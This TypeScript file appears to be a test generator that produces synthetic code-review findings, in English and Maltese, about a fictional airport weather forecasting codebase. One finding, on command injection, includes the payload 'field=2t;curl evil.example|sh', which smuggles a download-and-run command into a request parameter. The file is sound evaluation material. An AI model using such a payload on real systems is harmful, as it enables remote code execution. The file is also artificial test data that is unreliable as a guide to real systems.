/**
 * The fifty-seventh held-out generator family for grouping quality (issue #12): an airport
 * weather office's forecast chain as its repository keeps it: the WRF model's Fortran namelist,
 * a Python service decoding its GRIB2 output, a METAR and TAF parser in Go, and an NCL script
 * drawing the charts, reviewed by runs of which some write in Maltese. None of these formats or
 * that language appear anywhere else in the tests.
 *
 * Written in the stop that reads the fifty-sixth family, before the fifty-sixth's errors were
 * read, to take its place as a check; committed before anything was run on it; read, and tuned
 * against, in the same stop, once the fifty-eighth had taken its place. Self-contained: its own catalogue and its own model of how reports vary, its numbers
 * from the project's seeded generator (src/util/random.ts). What it models that the other
 * families do not:
 *  - a GRIB2 field named by its short name (`2t`) or by its discipline, category and number
 *    (`0/0/0`), one habit a run, in places and words;
 *  - a station named by its ICAO code (`LMML`) or its WMO index (`16597`), one habit a run;
 *  - namelist variables by group and name (`&domains time_step`), dotted (`domains.time_step`) or
 *    bare, with a domain's column now and then (`time_step(2)`);
 *  - Go methods with their receiver (`(*Parser).parseWind`) or bare, the call at fault
 *    (`http.Get`, `subprocess.run`) for the function;
 *  - categories as plain words, CWE ids, the field's own terms (`Model blow-up`) or in Maltese.
 *  - twins: two fields converted from kelvin wrongly, five lines apart in one function; two METAR
 *    groups read past their end, adjacent functions; a remark on the parser.
 * Do not edit the catalogue or the variation to suit the matcher: that would end its use.
 */
import type { Finding, Severity } from "../../src/findings/types.js";
import type { Random } from "../../src/util/random.js";
import {
  capitalised,
  cataloguedReport,
  type CatalogueIssue,
  type CatalogueRemark,
  drawRuns,
  locationDrawn,
  remarkReport,
  usualForm,
  type Wording,
} from "./draw.js";
import type { Generated, GeneratorOptions } from "./quality.js";

const NAMELIST = "wrf/namelist.input";
const DECODER = "ingest/grib/decode.py";
const METAR = "ingest/metar/parser.go";
const CHARTS = "charts/plot_surface.ncl";
const STATIONS = "ingest/metar/stations.go";

type Agent = "security" | "reliability" | "performance";

/** A GRIB2 field as either habit names it. */
interface Field {
  short: string;
  code: string;
}

interface WeatherIssue extends CatalogueIssue<Agent> {
  /** The usual place, a second form, a third: `%f` the field, `%s` the station as the run names them. */
  places: readonly [string, string, string];
  /** Plain, CWE, the field's own term, Maltese. */
  categories: readonly [string, string, string, string];
  en: Wording;
  mt: Wording;
  field?: Field;
}

/** A field shown in kelvin as if it were Celsius: each field its own issue. */
function kelvin(
  id: string,
  field: Field,
  what: string,
  whatMt: string,
  line: number,
  rate: number,
): WeatherIssue {
  return {
    id,
    agent: "reliability",
    severity: "HIGH",
    rate,
    file: DECODER,
    line,
    field,
    places: ["to_celsius", "%f", `decode.py:to_celsius`],
    categories: [
      "Incorrect unit conversion",
      "CWE-1339",
      "Kelvin offset",
      "Konverżjoni ħażina tal-unitajiet",
    ],
    en: {
      titles: [
        `to_celsius subtracts 273 instead of 273.15 from the ${what}`,
        `The ${what} (%f) on the aerodrome forecast is 0.15 degrees off`,
        `%f is rounded across a threshold the forecasters use`,
      ],
      facts: [
        `to_celsius converts %f with value - 273 rather than value - 273.15, and rounds afterwards; the ${what} at %s then sits 0.15 degrees high, which flips the rounded value across the freezing line the TAF's icing remark depends on several mornings each winter.`,
        `The ${what} is converted with 273, not 273.15.`,
      ],
      fix: `Subtract 273.15 for %f, and round only when the value is written into the bulletin.`,
    },
    mt: {
      titles: [
        `to_celsius inaqqas 273 minflok 273.15 mit-${whatMt}`,
        `It-${whatMt} (%f) fit-tbassir tal-ajrudrom hija żbaljata b'0.15 gradi`,
      ],
      facts: [
        `to_celsius tikkonverti %f b'value - 273 minflok value - 273.15 u mbagħad tqarreb; it-${whatMt} f'%s toħroġ 0.15 gradi ogħla, u l-valur imqarreb jaqbeż il-linja tal-iffriżar.`,
      ],
      fix: `Naqqas 273.15 għal %f u qarreb biss meta l-valur jinkiteb fil-bullettin.`,
    },
  };
}

/** A METAR group read past its end: each group its own issue. */
function shortGroup(
  id: string,
  fn: string,
  group: string,
  groupMt: string,
  example: string,
  line: number,
  rate: number,
): WeatherIssue {
  return {
    id,
    agent: "reliability",
    severity: "HIGH",
    rate,
    file: METAR,
    line,
    places: [fn, `(*Parser).${fn}`, `metar.${fn}`],
    categories: ["Out-of-bounds read", "CWE-125", "Parser panic", "Qari lil hinn mil-limiti"],
    en: {
      titles: [
        `${fn} slices the ${group} group without checking its length`,
        `A truncated ${group} group panics the METAR parser`,
        `One malformed report from %s stops the decoding of every station`,
      ],
      facts: [
        `${fn} reads tok[3:5] of the ${group} group before checking it has five characters; a report cut short on the line (\`${example}\`) panics with an index out of range, and since the parser runs in the ingest goroutine without a recover, every station's observations stop until the service restarts.`,
        `${fn} indexes past a short ${group} group.`,
      ],
      fix: `Check len(tok) before slicing in ${fn}, and return an error for the report instead of panicking.`,
    },
    mt: {
      titles: [
        `${fn} jaqta' l-grupp tal-${groupMt} mingħajr ma jiċċekkja t-tul tiegħu`,
        `Grupp tal-${groupMt} maqtugħ jikkraxxja l-parser tal-METAR`,
      ],
      facts: [
        `${fn} jaqra tok[3:5] tal-grupp tal-${groupMt} qabel ma jiċċekkja li għandu ħames karattri; rapport maqtugħ (\`${example}\`) jagħmel panic u l-osservazzjonijiet tal-istazzjonijiet kollha jieqfu.`,
      ],
      fix: `Iċċekkja len(tok) qabel taqta' f'${fn}.`,
    },
  };
}

const T2M: Field = { short: "2t", code: "0/0/0" };
const DEW: Field = { short: "2d", code: "0/0/6" };

const ISSUES: WeatherIssue[] = [
  kelvin("kelvin-temperature", T2M, "temperature", "temperatura", 41, 0.45),
  kelvin("kelvin-dewpoint", DEW, "dew point", "punt tan-nida", 46, 0.35),
  shortGroup("group-wind", "parseWind", "wind", "riħ", "LMML 291150Z 3101", 88, 0.45),
  shortGroup(
    "group-visibility",
    "parseVisibility",
    "visibility",
    "viżibbiltà",
    "LMML 291150Z 31012KT 90",
    104,
    0.35,
  ),
  {
    id: "extract-injection",
    agent: "security",
    severity: "CRITICAL",
    rate: 0.45,
    file: DECODER,
    line: 73,
    places: ["extract_field", "subprocess.run", "decode.py"],
    categories: ["OS command injection", "CWE-78", "Shell injection", "Injezzjoni ta' kmandi"],
    en: {
      titles: [
        "extract_field passes the requested field name to a shell",
        "subprocess.run(..., shell=True) builds grib_copy's command from the query string",
        "Any user of the chart service can run commands on the ingest host",
      ],
      facts: [
        'extract_field runs subprocess.run(f"grib_copy -w shortName={name} {path} {out}", shell=True) with name taken from the chart service\'s ?field= parameter; a request for field=2t;curl evil.example|sh runs as the ingest user, which can write the bulletins the airport publishes.',
        "The field name reaches a shell.",
      ],
      fix: "Check the name against the fields the model writes, and call grib_copy with an argument list and no shell (or read the field with eccodes directly).",
    },
    mt: {
      titles: [
        "extract_field jgħaddi l-isem tal-qasam mitlub lil shell",
        "Kull utent tas-servizz tal-mapep jista' jħaddem kmandi fuq is-server",
      ],
      facts: [
        "extract_field iħaddem subprocess.run(f\"grib_copy -w shortName={name} {path} {out}\", shell=True) b'name meħud mill-parametru ?field=; talba b'field=2t;curl evil.example|sh titħaddem bħala l-utent tal-ingest.",
      ],
      fix: "Iċċekkja l-isem kontra l-oqsma li jikteb il-mudell u sejjaħ grib_copy mingħajr shell.",
    },
  },
  {
    id: "time-step",
    agent: "reliability",
    severity: "MEDIUM",
    rate: 0.4,
    file: NAMELIST,
    line: 31,
    places: ["&domains time_step", "domains.time_step", "time_step"],
    categories: ["Numerical instability", "CWE-1339", "Model blow-up", "Instabbiltà numerika"],
    en: {
      titles: [
        "time_step = 60 is too long for the 3 km inner domain",
        "The model run fails its CFL check on windy days",
        "The 00 UTC forecast is missing whenever the gradient wind passes 40 knots",
      ],
      facts: [
        "&domains sets time_step = 60 with dx = 3000 for the nest; the usual rule is at most 6 × dx in km, 18 s, and with strong gradient winds over the islands the vertical CFL is exceeded, the run stops with NaNs, and the office issues the TAF from the global model alone.",
        "The time step breaks the CFL limit.",
      ],
      fix: "Set time_step = 15 (or use adaptive time steps with target_cfl = 1.2) and keep parent_time_step_ratio at 3.",
    },
    mt: {
      titles: [
        "time_step = 60 huwa twil wisq għad-dominju ta' ġewwa ta' 3 km",
        "Il-mudell ifalli l-kontroll CFL fil-ġranet bir-riħ",
      ],
      facts: [
        "&domains jissettja time_step = 60 b'dx = 3000 għan-nest; ir-regola hija l-aktar 18 s, u meta r-riħ ikun qawwi l-mudell jieqaf b'NaNs.",
      ],
      fix: "Issettja time_step = 15 jew uża time steps adattivi.",
    },
  },
  {
    id: "stations-timeout",
    agent: "performance",
    severity: "MEDIUM",
    rate: 0.4,
    file: STATIONS,
    line: 22,
    places: ["fetchStations", "http.Get", "(*Client).fetchStations"],
    categories: ["Missing timeout", "CWE-400", "Hung ingest", "Nuqqas ta' timeout"],
    en: {
      titles: [
        "fetchStations calls http.Get with no timeout",
        "The station list download can hang the ingest for hours",
        "A slow OGIMET response stops new METARs from %s arriving",
      ],
      facts: [
        "fetchStations uses http.Get, which has no timeout, to refresh the station list every hour before decoding; when the upstream server accepts the connection and then stalls, the ingest loop waits on it, and the last time no observation from %s was decoded for three hours.",
        "http.Get has no timeout.",
      ],
      fix: "Use an http.Client with Timeout: 10 * time.Second and keep using the cached list when the refresh fails.",
    },
    mt: {
      titles: [
        "fetchStations isejjaħ http.Get mingħajr timeout",
        "It-tniżżil tal-lista tal-istazzjonijiet jista' jwaqqaf l-ingest għal sigħat",
      ],
      facts: [
        "fetchStations juża http.Get, li m'għandux timeout, biex jaġġorna l-lista kull siegħa; meta s-server iwaqqaf ir-risposta, l-ingest jistenna u l-ebda osservazzjoni minn %s ma tiġi dekodifikata.",
      ],
      fix: "Uża http.Client b'Timeout ta' 10 sekondi.",
    },
  },
  {
    id: "decode-reopen",
    agent: "performance",
    severity: "MEDIUM",
    rate: 0.35,
    file: DECODER,
    line: 112,
    places: ["decode_all", "xr.open_dataset", "for name in FIELDS"],
    categories: ["Inefficient algorithm", "CWE-1050", "Slow decode", "Algoritmu ineffiċjenti"],
    en: {
      titles: [
        "decode_all opens the whole GRIB file once per field",
        "Decoding one forecast hour takes 40 seconds",
        "The charts are late because each field re-indexes the GRIB file",
      ],
      facts: [
        'decode_all loops over 24 fields and calls xr.open_dataset(path, engine="cfgrib", filter_by_keys=…) for each, and cfgrib builds its index of the 600 MB file anew every time; one forecast hour takes 40 s, and the 48 hours of the 06 UTC run reach the charts half an hour after the briefing.',
        "The file is opened for every field.",
      ],
      fix: "Open the file once (cfgrib.open_datasets or an eccodes index), or keep the index file cfgrib can reuse.",
    },
    mt: {
      titles: [
        "decode_all jiftaħ il-fajl GRIB kollu darba għal kull qasam",
        "Id-dekodifika ta' siegħa waħda ta' tbassir tieħu 40 sekonda",
      ],
      facts: [
        "decode_all idur fuq 24 qasam u jsejjaħ xr.open_dataset għal kull wieħed, u cfgrib jerġa' jibni l-indiċi tal-fajl ta' 600 MB kull darba.",
      ],
      fix: "Iftaħ il-fajl darba waħda biss.",
    },
  },
  {
    id: "charts-tmp",
    agent: "security",
    severity: "LOW",
    rate: 0.3,
    file: CHARTS,
    line: 9,
    places: ['gsn_open_wks("png", "/tmp/surface")', "wks", "plot_surface.ncl"],
    categories: [
      "Insecure temporary file",
      "CWE-377",
      "Predictable chart path",
      "Fajl temporanju mhux sigur",
    ],
    en: {
      titles: [
        "plot_surface.ncl writes its chart to a fixed name in /tmp",
        "The surface chart can be replaced before it is published",
        "gsn_open_wks writes /tmp/surface.png, which any local user can pre-create",
      ],
      facts: [
        'The script opens its workstation with gsn_open_wks("png", "/tmp/surface") and the publish job copies /tmp/surface.png to the briefing site; any user on the shared post-processing host can create that path first, as a link or a file of their own, and the pilots\' briefing then shows their picture.',
        "The chart's path in /tmp is fixed.",
      ],
      fix: "Write into a directory made per run with mktemp -d and owned by the service, and publish from there.",
    },
    mt: {
      titles: [
        "plot_surface.ncl jikteb il-mappa f'isem fiss f'/tmp",
        "Il-mappa tal-wiċċ tista' tinbidel qabel ma tiġi ppubblikata",
      ],
      facts: [
        'L-iskript jiftaħ gsn_open_wks("png", "/tmp/surface") u x-xogħol tal-pubblikazzjoni jikkopja /tmp/surface.png; kull utent fuq is-server jista\' joħloq dak il-fajl l-ewwel.',
      ],
      fix: "Ikteb f'direttorju maħluq għal kull run b'mktemp -d.",
    },
  },
];

/** Remarks a run makes on its own at one place: each place is its own issue. */
const REMARKS: (CatalogueRemark & { agent: Agent; en: string; mt: string })[] = [
  {
    id: "remark-parser-table",
    agent: "reliability",
    file: METAR,
    line: 20,
    place: "Parser",
    en: "Drive the METAR groups from a table of patterns instead of one method per group",
    mt: "Mexxi l-gruppi tal-METAR minn tabella ta' mudelli minflok metodu għal kull grupp",
  },
  {
    id: "remark-fields-constant",
    agent: "performance",
    file: DECODER,
    line: 12,
    place: "FIELDS",
    en: "Keep FIELDS in the configuration file, not in the code",
    mt: "Żomm FIELDS fil-fajl tal-konfigurazzjoni, mhux fil-kodiċi",
  },
  {
    id: "remark-namelist-comments",
    agent: "reliability",
    file: NAMELIST,
    line: 2,
    place: "&time_control",
    en: "Comment why each physics option was chosen",
    mt: "Ikteb kumment għala ntgħażlet kull għażla tal-fiżika",
  },
];

/** How a run writes, kept for the whole run. */
interface WeatherStyle {
  maltese: boolean;
  /** GRIB2 fields by discipline, category and number, not by short name. */
  codes: boolean;
  /** Stations by WMO index, not ICAO code. */
  wmo: boolean;
  /** Namelist variables with the inner domain's column (`time_step(2)`). */
  columns: boolean;
  /** Places as the usual form, the second, or the third. */
  place: 0 | 1 | 2;
  /** Lines given at all. */
  lines: boolean;
}

const SEVERITY_MT: Record<Severity, string> = {
  CRITICAL: "kritika",
  HIGH: "għolja",
  MEDIUM: "medja",
  LOW: "baxxa",
  INFO: "informazzjoni",
};

/** `text` with the field and the station written as the run names them. */
function written(text: string, field: Field | undefined, style: WeatherStyle): string {
  const station = style.wmo ? "16597" : "LMML";
  const named = text.replaceAll("%s", station);
  return field === undefined ? named : named.replaceAll("%f", style.codes ? field.code : field.short);
}

/** A namelist place with the inner domain's column, where the run writes columns. */
function columned(place: string, file: string, style: WeatherStyle): string {
  return style.columns && file === NAMELIST && !place.startsWith("&") ? `${place}(2)` : place;
}

function reportOf(issue: WeatherIssue, style: WeatherStyle, random: Random, v: number): Finding {
  return cataloguedReport(
    issue,
    {
      words: style.maltese ? issue.mt : issue.en,
      otherLanguage: style.maltese,
      place: style.place,
      said: (severity) =>
        style.maltese ? `Severità: ${SEVERITY_MT[severity]}.` : `Severity: ${severity.toLowerCase()}.`,
      written: (text) => written(text, issue.field, style),
      titled: capitalised,
      symbol: (place) => columned(written(place, issue.field, style), issue.file, style),
      located: () => locationDrawn(issue.file, issue.line, style.lines, random, v),
    },
    random,
    v,
  );
}

/** `runs` runs of the three agents over the weather office's code, with each finding's true issue. */
export function weatherRuns(options: GeneratorOptions): Generated {
  return drawRuns<WeatherIssue, (typeof REMARKS)[number], WeatherStyle>(
    {
      name: "weather",
      model: "weather-generator",
      issues: ISSUES,
      remarks: REMARKS,
      remarkRate: 0.12,
      style: (random, v) => {
        const place = random();
        return {
          maltese: random() < 0.3,
          codes: random() < 0.4,
          wmo: random() < 0.3,
          columns: random() < 0.1 + v * 0.3,
          place: usualForm(place, v),
          lines: random() < 0.85,
        };
      },
      report: reportOf,
      remark: (remark, style, random, v) =>
        remarkReport(
          remark,
          {
            category: style.maltese ? "Manutenzjoni" : "Maintainability",
            title: style.maltese ? remark.mt : remark.en,
            description: style.maltese
              ? `${remark.mt}. Żgħira, imma tagħmilha aktar faċli biex tinżamm.`
              : `${remark.en}. Minor, but it eases maintenance.`,
          },
          locationDrawn(remark.file, remark.line, style.lines, random, v),
        ),
    },
    options,
  );
}
